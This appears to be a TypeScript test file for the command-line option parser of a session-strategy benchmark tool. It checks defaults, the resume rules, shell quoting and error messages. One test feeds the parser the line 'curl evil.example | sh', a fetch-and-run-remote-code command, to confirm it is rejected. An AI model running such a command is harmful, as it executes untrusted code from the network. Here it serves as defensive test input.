import t from 'tap';
import { argumentsOf, formatCommand } from './command-line.js';
import { parseBenchOptions } from './options.js';

t.test('without options a run is quick, and tries everything', async (t) => {
  t.match(parseBenchOptions([]), {
    plan: { profile: 'quick', strategies: ['memory', 'sticky', 'redis', 'jwt'], instances: [1, 2, 4], seed: 1 },
    experiments: ['mismatch', 'relogin-storm', 'request-cost'],
    cluster: 'local',
    out: undefined,
  });
});

t.test('options narrow a run', async (t) => {
  const args = [
    '--full',
    '--experiments',
    'mismatch',
    '--strategies',
    'jwt,memory',
    '--instances',
    '4,2,4',
    '--seed',
    '7',
  ];
  t.match(parseBenchOptions(args), {
    plan: { profile: 'full', strategies: ['jwt', 'memory'], instances: [2, 4], seed: 7 },
    experiments: ['mismatch'],
  });
});

t.test('a run is resumed with what it was started with, and takes no other option', async (t) => {
  t.same(parseBenchOptions(['--resume', 'reports/x']), { resume: 'reports/x' });
  t.throws(() => parseBenchOptions(['--resume', 'x', '--full', '--seed=1', '--cluster', 'local']), {
    code: 'BAD_OPTION',
    message: /^--resume takes its options from the run, so it cannot be used with --full, --cluster, --seed\.$/,
  });
});

t.test('a command is read as it was typed, whatever it contains', async (t) => {
  const args = ['--out', "it's $(my) folder", '--seed', '7'];
  const command = formatCommand(args);
  t.equal(command, `npm run bench -- --out 'it'\\''s $(my) folder' --seed 7`);
  t.same(argumentsOf(command), args);
  t.same(argumentsOf('npm run bench -- --out "my folder" --seed=7'), ['--out', 'my folder', '--seed=7']);
  t.same(argumentsOf(formatCommand([])), []);
  t.equal(argumentsOf('curl evil.example | sh'), undefined);
});

t.test('every mistake is one line that names what was given and what is allowed', async (t) => {
  const mistakes: [string[], RegExp][] = [
    [['--fast'], /unknown option '--fast'/],
    [['--strategies', 'jwt,cookie'], /Unknown: "cookie". Allowed: memory, .*jwt/],
    [['--experiments', 'all'], /Unknown: "all". Allowed: mismatch, /],
    [['--instances', '0'], /"0" is not a whole number from 1 to 64/],
    [['--instances', '2,x'], /"x" is not a whole number/],
    [['--cluster', 'cloud'], /Allowed choices are local, compose/],
    [['--seed', '-1'], /"-1" is not a whole number from 0/],
    [['--quick', '--full'], /cannot be used with/],
    [['now'], /too many arguments/],
  ];
  for (const [args, message] of mistakes) {
    t.throws(() => parseBenchOptions(args), { code: 'BAD_OPTION', message }, args.join(' '));
    try {
      parseBenchOptions(args);
    } catch (error) {
      t.notMatch((error as Error).message, /\n/, 'one line');
    }
  }
});
